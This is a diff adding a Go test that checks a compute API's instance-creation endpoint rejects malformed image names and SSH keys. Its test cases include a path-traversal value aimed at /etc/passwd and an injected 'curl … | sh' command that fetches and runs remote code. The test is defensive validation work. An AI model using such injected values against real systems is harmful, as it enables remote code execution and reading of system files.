@@ -299,3 +299,46 @@ func TestReclaimAnotherTenantsNodeRefused(t *testing.T) {
 		t.Fatalf("reclaiming the tenant's own node: %v", err)
 	}
 }
+
+// TestBadInstanceImageRefusedAtAPI: instances.create accepted an image
+// like ../../../etc/passwd, `ubuntu; curl … | sh` or 300 characters, and an
+// SSH key with a tab, which the host daemon then refused — failing its
+// whole instances section, other tenants' instances included. The API
+// holds them to the daemon's own rule (proto/instancespec) now:
+// INVALID_INPUT naming the field, and nothing is placed.
+func TestBadInstanceImageRefusedAtAPI(t *testing.T) {
+	t.Parallel()
+	h := setupWith(t, api.Tuning{}, apiOnly)
+	pool := h.vpsPool(t, "v", 1, 0)
+	c := computev1.NewInstancesServiceClient(h.conn)
+	for _, tc := range []struct {
+		field string
+		set   func(r *computev1.InstancesServiceCreateRequest)
+	}{
+		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = "../../../etc/passwd" }},
+		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = "ubuntu; curl http://203.0.113.1/x | sh" }},
+		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = strings.Repeat("u", 300) }},
+		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = "/var/lib/images/ubuntu.qcow2" }},
+		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = ".hidden" }},
+		{"sshKeys", func(r *computev1.InstancesServiceCreateRequest) { r.SshKeys = []string{"ssh-ed25519\tAAAAC3Nz test@example"} }},
+		{"sshKeys", func(r *computev1.InstancesServiceCreateRequest) { r.SshKeys = []string{"ssh-ed25519 AAAAC3Nz \x1b[2Jtest"} }},
+		{"sshKeys", func(r *computev1.InstancesServiceCreateRequest) { r.SshKeys = []string{"ssh-ed25519"} }},
+		{"sshKeys", func(r *computev1.InstancesServiceCreateRequest) { r.SshKeys = []string{"rsa AAAAC3Nz"} }},
+	} {
+		r := small(pool)
+		tc.set(r)
+		_, err := c.Create(as(h.root), r)
+		wantCode(t, err, fault.InvalidInput, tc.field)
+	}
+	if n := h.count(t, `SELECT count(*) FROM instances`); n != 0 {
+		t.Fatalf("%d instances stored", n)
+	}
+	// What the daemon accepts, the API accepts.
+	r := small(pool)
+	r.Image = "ubuntu-24.04_v2.qcow2"
+	r.SshKeys = []string{"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI", "ecdsa-sha2-nistp256 AAAAE2Vj ops@example ünïcode"}
+	r.UserData = "#cloud-config\n\tpackages: [htop]\r\n"
+	if _, err := c.Create(as(h.root), r); err != nil {
+		t.Fatal(err)
+	}
+}
